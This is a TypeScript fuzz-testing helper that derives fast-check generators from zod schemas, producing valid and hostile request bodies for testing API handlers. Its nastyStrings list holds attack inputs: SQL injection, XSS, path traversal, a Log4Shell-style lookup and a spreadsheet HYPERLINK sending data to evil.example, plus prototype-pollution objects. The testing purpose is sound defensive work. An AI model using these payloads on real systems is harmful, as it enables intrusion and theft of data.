import fc from 'fast-check';
import type { z } from 'zod';

/**
 * Arbitraries from zod 4 schemas, walked over the public definition (`schema._zod.def`):
 * `validOf` aims at bodies the schema accepts (callers keep only those that parse, so a
 * refinement the walker cannot see costs a retry, not a wrong test), `hostileOf` at bodies a
 * careless handler would choke on. Anything the walker does not know becomes JSON junk.
 */

type Def = { type: string; [k: string]: any };
const defOf = (schema: unknown): Def => (schema as { _zod: { def: Def } })._zod.def;

/** Strings an attacker or a careless import would send, in every text field. */
export const nastyStrings = [
  "' OR '1'='1",
  '1; DROP TABLE muser; --',
  "x' UNION SELECT pwdhash FROM muser --",
  'CASE WHEN 1=1 THEN pg_sleep(0) END',
  '0x27',
  '\\x27; select 1',
  '%27%20OR%201=1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '\u0000\u0001\u0007\b\u001b[31m\u007f',
  '\r\n\tX-Injected: 1',
  '\u202eRTL\u202c override',
  '\ufeffBOM',
  '滨江第一中学 العربية עברית русский 🧠👩‍⚕️ ǅ Ω',
  '𠜎𠜱𠝹𠱓',
  'NaN',
  'null',
  'undefined',
  '-0',
  '1e309',
  ' ',
  '',
];

export const MEGABYTE = 'a'.repeat(1024 * 1024);

const depthNest = (depth: number, leaf: unknown, asArray: boolean) => {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i += 1) v = asArray ? [v] : { a: v };
  return v;
};

/** Numbers at and past every edge a page size or id could have. */
export const nastyNumbers = [
  0,
  -1,
  -0,
  1,
  1.5,
  -2147483649,
  2147483648,
  1e9,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER,
  1e308,
  -1e308,
  5e-324,
];

/** Values of the wrong shape for any field. */
export const junkArb: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom(...nastyStrings), weight: 4 },
  { arbitrary: fc.constantFrom(...nastyNumbers), weight: 3 },
  { arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { '': '' }), weight: 2 },
  { arbitrary: fc.constant(MEGABYTE), weight: 1 },
  {
    arbitrary: fc.constantFrom(depthNest(2000, 1, true), depthNest(2000, 'x', false), depthNest(60, [MEGABYTE.slice(0, 1000)], false)),
    weight: 1,
  },
  {
    arbitrary: fc.constant(JSON.parse('{"__proto__":{"issuper":true,"enabled":1},"constructor":{"prototype":{"admin":true}}}')),
    weight: 1,
  },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
);

interface Bounds {
  min?: number;
  max?: number;
  minInclusive?: boolean;
  maxInclusive?: boolean;
}

function checksOf(def: Def): Def[] {
  return ((def.checks ?? []) as { _zod: { def: Def } }[]).map((c) => c._zod.def);
}

function stringInfo(def: Def) {
  let min = 0;
  let max = Infinity;
  let trim = false;
  const patterns: RegExp[] = [];
  if (def.pattern instanceof RegExp) patterns.push(def.pattern);
  for (const c of checksOf(def)) {
    if (c.check === 'min_length') min = Math.max(min, c.minimum);
    else if (c.check === 'max_length') max = Math.min(max, c.maximum);
    else if (c.check === 'length_equals') min = max = c.length;
    else if (c.check === 'overwrite') trim = true;
    else if (c.check === 'string_format' && c.pattern instanceof RegExp) patterns.push(c.pattern);
  }
  return { min, max, trim, patterns };
}

function numberBounds(def: Def): Bounds {
  const b: Bounds = {};
  for (const c of checksOf(def)) {
    if (c.check === 'greater_than') {
      b.min = c.value;
      b.minInclusive = c.inclusive;
    } else if (c.check === 'less_than') {
      b.max = c.value;
      b.maxInclusive = c.inclusive;
    }
  }
  return b;
}

function arrayBounds(def: Def) {
  let min = 0;
  let max = 4;
  for (const c of checksOf(def)) {
    if (c.check === 'min_length') min = c.minimum;
    else if (c.check === 'max_length') max = Math.min(max, c.maximum);
    else if (c.check === 'length_equals') min = max = c.length;
  }
  return { min, max: Math.max(min, max) };
}

/** Strips optional/default/nullable/pipe wrappers: the schema a field's value is checked by. */
export function unwrap(schema: unknown): Def {
  let def = defOf(schema);
  for (let i = 0; i < 20; i += 1) {
    if (['optional', 'default', 'prefault', 'nullable', 'readonly', 'catch', 'nonoptional'].includes(def.type)) def = defOf(def.innerType);
    else if (def.type === 'pipe') def = defOf(def.in);
    else if (def.type === 'lazy') def = defOf(def.getter());
    else break;
  }
  return def;
}

/** The fields of an object schema (after unwrapping), or null when the input is not an object. */
export function shapeOf(schema: unknown): Record<string, z.ZodType> | null {
  const def = unwrap(schema);
  return def.type === 'object' ? (def.shape as Record<string, z.ZodType>) : null;
}

const isOptional = (schema: unknown) => ['optional', 'default', 'prefault'].includes(defOf(schema).type);

export interface ArbOptions {
  /** 'random': optional fields come and go; 'omit': only required fields. */
  optional: 'random' | 'omit';
  /** Mixes attack strings into free-text fields (still within the schema's length and pattern). */
  nasty: boolean;
}

/** Bodies that the schema should accept (callers filter with safeParse for what the walker cannot see). */
export function validOf(schema: unknown, opts: ArbOptions = { optional: 'random', nasty: true }, depth = 0): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  const next = (s: unknown) => validOf(s, opts, depth + 1);
  switch (def.type) {
    case 'object': {
      const shape = def.shape as Record<string, unknown>;
      const keys = Object.keys(shape);
      const required = keys.filter((k) => !isOptional(shape[k]));
      const arbs = Object.fromEntries(keys.map((k) => [k, next(shape[k])]));
      if (opts.optional === 'omit') return fc.record(Object.fromEntries(required.map((k) => [k, arbs[k]!])));
      return fc.record(arbs, { requiredKeys: required });
    }
    case 'optional':
    case 'default':
    case 'prefault':
    case 'readonly':
    case 'catch':
    case 'nonoptional':
      return next(def.innerType);
    case 'nullable':
      return fc.option(next(def.innerType), { nil: null, freq: 4 });
    case 'pipe':
      return next(def.in);
    case 'lazy':
      return depth > 6 ? fc.constant(undefined) : next(def.getter());
    case 'string':
      return stringArb(def, opts.nasty);
    case 'number':
    case 'int':
      return numberArb(def);
    case 'bigint':
      return fc.bigInt().map(String);
    case 'boolean':
      return fc.boolean();
    case 'literal':
      return fc.constantFrom(...(def.values as unknown[]));
    case 'enum':
      return fc.constantFrom(...Object.values(def.entries as Record<string, unknown>));
    case 'union':
      return fc.oneof(...(def.options as unknown[]).map(next));
    case 'array': {
      const { min, max } = arrayBounds(def);
      return depth > 6 ? fc.constant([]) : fc.array(next(def.element), { minLength: min, maxLength: max });
    }
    case 'tuple':
      return fc.tuple(...(def.items as unknown[]).map(next));
    case 'record':
      return fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), next(def.valueType), { maxKeys: 3 });
    case 'null':
      return fc.constant(null);
    case 'date':
      return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
    case 'never':
      return fc.constant(undefined);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function stringArb(def: Def, nasty: boolean): fc.Arbitrary<string> {
  const { min, max, trim, patterns } = stringInfo(def);
  const cap = Number.isFinite(max) ? max : 80;
  // Calendar dates: random digits would almost never name a real day.
  if (patterns.some((p) => p.source.includes('\\d{4}-\\d{2}-\\d{2}'))) {
    return fc
      .date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10));
  }
  if (patterns.length > 0) {
    // The first pattern drives generation; bodies that miss the others are dropped by the caller.
    try {
      return fc.stringMatching(patterns[0]!, { size: 'small' }).map((s) => (trim ? s.trim() : s));
    } catch {
      return fc.string({ minLength: min, maxLength: Math.min(cap, 40) });
    }
  }
  // No filters here: a filter that never passes would spin forever; a wrong value only costs a sample.
  const tidy = (s: string) => {
    const t = (trim ? s.trim() : s).slice(0, cap);
    return t.length < min ? t + 'x'.repeat(min - t.length) : t;
  };
  const arbs: fc.Arbitrary<string>[] = [fc.string({ minLength: min, maxLength: Math.min(cap, 40) }).map(tidy)];
  if (nasty) {
    arbs.push(fc.constantFrom(...nastyStrings).map(tidy));
    arbs.push(fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(cap, 20) }).map(tidy));
  }
  return fc.oneof(...arbs);
}

function numberArb(def: Def): fc.Arbitrary<number> {
  const b = numberBounds(def);
  const isInt = def.type === 'int' || (typeof def.format === 'string' && /int/.test(def.format));
  if (isInt) {
    let min = b.min === undefined ? -1_000_000 : Math.ceil(b.min) + (b.minInclusive === false && Number.isInteger(b.min) ? 1 : 0);
    let max = b.max === undefined ? 1_000_000 : Math.floor(b.max) - (b.maxInclusive === false && Number.isInteger(b.max) ? 1 : 0);
    min = Math.max(min, Number.MIN_SAFE_INTEGER);
    max = Math.min(max, Number.MAX_SAFE_INTEGER);
    // Edges are where handlers break: favour them.
    return fc.oneof(fc.constantFrom(min, max), fc.integer({ min, max }));
  }
  return fc.double({
    min: b.min ?? -1e9,
    max: b.max ?? 1e9,
    minExcluded: b.minInclusive === false,
    maxExcluded: b.maxInclusive === false,
    noNaN: true,
    noDefaultInfinity: true,
  });
}

/**
 * Hostile bodies for an input schema: a valid body with one field turned to junk, a valid body
 * missing a field, one with extra fields, and whole bodies of the wrong shape.
 */
export function hostileOf(schema: unknown): fc.Arbitrary<unknown> {
  const shape = shapeOf(schema);
  const valid = validOf(schema, { optional: 'random', nasty: true });
  if (!shape || Object.keys(shape).length === 0) {
    return fc.oneof(
      junkArb,
      fc.dictionary(fc.constantFrom('x', 'musercode', 'permissions', 'enabled', 'page', 'pageSize'), junkArb, { minKeys: 1, maxKeys: 3 }),
      valid,
    );
  }
  const keys = Object.keys(shape);
  const asObject = (v: unknown) => (v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>) : {});
  const pageKeys = keys.filter((k) => /^page(size)?$/i.test(k));
  const oneFieldJunk = fc.tuple(valid, fc.constantFrom(...keys), junkArb).map(([v, k, j]) => ({ ...asObject(v), [k]: j }));
  const missing = fc.tuple(validOf(schema, { optional: 'omit', nasty: false }), fc.constantFrom(...keys)).map(([v, k]) => {
    const { [k]: _gone, ...rest } = asObject(v);
    return rest;
  });
  const extra = fc
    .tuple(valid, fc.constantFrom('x', 'musercode', 'permissions', 'enabled', 'issuper', '__proto__', 'constructor', ''), junkArb)
    .map(([v, k, j]) => ({ ...asObject(v), [k]: j }));
  const arbs: fc.Arbitrary<unknown>[] = [oneFieldJunk, oneFieldJunk, missing, extra, junkArb, valid];
  if (pageKeys.length > 0) {
    arbs.push(
      fc
        .tuple(valid, fc.constantFrom(...pageKeys), fc.constantFrom(0, -1, -100, 1e9, 2 ** 31, 1.5, '10', '', null))
        .map(([v, k, n]) => ({ ...asObject(v), [k]: n })),
    );
  }
  return fc.oneof(...arbs);
}

/** Deterministic sample bodies that the schema accepts (empty when none could be found). */
export function validSamples(schema: z.ZodType, seed: number, count: number, opts?: ArbOptions): unknown[] {
  const found: unknown[] = [];
  for (const mode of [opts ?? { optional: 'random', nasty: true }, { optional: 'omit', nasty: false }] as ArbOptions[]) {
    const candidates = fc.sample(validOf(schema, mode), { seed, numRuns: count * 8 });
    for (const c of candidates) {
      if (found.length >= count) return found;
      if (schema.safeParse(c).success) found.push(c);
    }
    if (found.length > 0) return found;
  }
  return found;
}

/** A stable 32-bit seed per action, so adding an action never changes another's bodies. */
export function seedFor(base: number, name: string): number {
  let h = base | 0;
  for (let i = 0; i < name.length; i += 1) h = (Math.imul(h, 31) + name.charCodeAt(i)) | 0;
  return h;
}
